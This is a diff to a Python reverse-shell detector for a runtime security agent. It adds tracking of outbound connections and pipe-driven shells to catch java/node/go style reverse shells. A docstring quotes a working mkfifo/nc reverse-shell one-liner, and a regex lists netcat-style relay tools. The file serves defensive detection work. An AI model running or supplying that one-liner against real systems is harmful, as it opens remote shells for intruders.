@@ -15,15 +15,21 @@ execute it. So is the most common one-liner, which keeps the socket out of
 the shell entirely: ``rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f``
 (or ``openssl s_client -connect``): a shell reading its stdin next to a
 relay with a peer, both children of one parent and started together.
+And the shape of java/node/go reverse shells, where the program holding the
+connection pumps it to a shell's pipes: a shell reading its stdin from a pipe,
+started by a process that connected out and never listened.
 """
 
 from __future__ import annotations
 
 import re
+from collections import OrderedDict
 from collections.abc import Callable, Iterable
+from typing import Any, TypeVar
 
+from collectors import procfs
 from collectors.events import ProcessInfo, RuntimeEvent
-from detectors.base import Detection, Detector, is_interpreter, is_shell, network_action, process_names
+from detectors.base import Detection, Detector, DetectorContext, is_interpreter, is_shell, network_action, process_names
 from detectors.tools import shell_mode
 
 TYPE = "Execution:Runtime/ReverseShell"
@@ -32,6 +38,13 @@ TYPE = "Execution:Runtime/ReverseShell"
 AWK = re.compile(r"^[gmn]?awk$")
 # Relay tools that can run a program with its stdio on their connection, and the options that make them do it.
 RELAYS = re.compile(r"^(?:socat|ncat|nc|netcat|nc\.traditional|nc\.openbsd|telnet)$")  # busybox nc: comm is "nc"
+# parents whose shells are terminal sessions: their stdin is a pty, but a pipe-fed session is theirs to run too
+TERMINAL_SERVERS = frozenset(
+    {"sshd", "dropbear", "telnetd", "in.telnetd", "login", "ssm-session-worker", "amazon-ssm-agent", "tmux",
+     "tmux: server", "screen", "script", "runc", "containerd-shim", "conmon", "sudo", "su", "expect",
+     "gitlab-runner"}
+)  # fmt: skip
+_V = TypeVar("_V")
 PORT = re.compile(r"^\d{1,5}$")
 # the processes of one typed pipeline start within milliseconds; slack for a loaded machine
 PIPELINE_WINDOW = 3.0
@@ -45,14 +58,26 @@ def is_shell_or_interpreter(info: ProcessInfo) -> bool:
 class ReverseShellDetector(Detector):
     name = "reverse_shell"
     types = (TYPE,)
-    kinds = ("process.stdio_socket", "process.exec")
+    kinds = ("process.stdio_socket", "process.exec", "net.connect", "net.listen", "net.accept")
+
+    def __init__(self, ctx: DetectorContext, max_tracked: int = 4096) -> None:
+        super().__init__(ctx)
+        self.max_tracked = max_tracked
+        # processes (uuid) with an outbound TCP connection: the remote end, for the finding
+        self._clients: OrderedDict[str, dict[str, Any]] = OrderedDict()
+        # processes that listen or accepted: servers, not the client end of a reverse shell
+        self._servers: OrderedDict[str, None] = OrderedDict()
+        # shells reading stdin by parent uuid, until the parent is known to connect (or not)
+        self._shells: OrderedDict[str, list[ProcessInfo]] = OrderedDict()
 
     def on_event(self, event: RuntimeEvent) -> Iterable[Detection]:
         p = event.process
         if p is None:
             return ()
         if event.kind == "process.exec":
-            return self._relayed(p, event)
+            return [*self._relayed(p, event), *self._driven_shell(p, event)]
+        if event.kind.startswith("net."):
+            return self._on_net(p, event)
         data = event.data or {}
         fds = data.get("fds") or []
         network = [f for f in fds if isinstance(f, dict) and f.get("network")]
@@ -92,6 +117,55 @@ class ReverseShellDetector(Detector):
                 return (self._through(shell, p, event),)
         return ()
 
+    # -- a shell driven over pipes by a process holding the connection ----------------------------------------
+    def _driven_shell(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
+        if not is_shell(p) or shell_mode(p) != "stdin" or p.parent_uuid is None:
+            return ()
+        parent = self.ctx.parent(p)
+        if parent is None or is_shell(parent) or any(n in TERMINAL_SERVERS for n in process_names(parent)):
+            return ()
+        remote = self._clients.get(parent.uuid)
+        if remote is None:
+            _remember(self._shells, parent.uuid, [*self._shells.get(parent.uuid, []), p], self.max_tracked)
+            return ()
+        return self._judge(p, parent, remote, event)
+
+    def _on_net(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
+        data = event.data or {}
+        if event.kind != "net.connect":
+            _remember(self._servers, p.uuid, None, self.max_tracked)
+            return ()
+        if data.get("ianaProtocolNumber") != 6 or data.get("direction") != "OUTBOUND":
+            return ()
+        _remember(self._clients, p.uuid, data, self.max_tracked)
+        waiting = self._shells.pop(p.uuid, None)
+        if not waiting:
+            return ()
+        return [d for shell in waiting if shell.exited_at is None for d in self._judge(shell, p, data, event)]
+
+    def _judge(
+        self, shell: ProcessInfo, parent: ProcessInfo, remote: dict[str, Any], event: RuntimeEvent
+    ) -> Iterable[Detection]:
+        """The java/node/go shape: ``ProcessBuilder("/bin/sh").start()`` with its pipes pumped to a socket. The
+        shell's stdin and stdout are pipes (a pty means a terminal session: ECS Exec, ssh, kubectl exec), its parent
+        a client that connected out and never listened."""
+        if parent.uuid in self._servers:
+            return ()
+        links = procfs.read_fd_links(shell.pid, shell.start_ticks, (0, 1))
+        if links is None or not all((links.get(fd) or "").startswith("pipe:") for fd in (0, 1)):
+            return ()
+        return (
+            Detection(
+                TYPE,
+                shell,
+                context={"relayProcess": parent.name, "relayCommandLine": parent.command_line},
+                key=(remote.get("remoteIp"),),
+                action=network_action(remote),
+                facts={"remoteIp": remote.get("remoteIp"), "remotePort": remote.get("remotePort")},
+                time=event.time,
+            ),
+        )
+
     def _sibling(self, p: ProcessInfo, want: Callable[[ProcessInfo], bool]) -> ProcessInfo | None:
         """A live process of the same pipeline: same parent, started within a few seconds of ``p``."""
         if p.parent_uuid is None:
@@ -117,6 +191,13 @@ class ReverseShellDetector(Detector):
             facts={"remoteIp": "(through " + (relay.name or "a relay") + ")", "remotePort": ""},
             time=event.time,
         )
+
+
+def _remember(d: OrderedDict[str, _V], key: str, value: _V, limit: int) -> None:
+    d[key] = value
+    d.move_to_end(key)
+    while len(d) > limit:
+        d.popitem(last=False)
 
 
 def is_relay(info: ProcessInfo) -> bool:
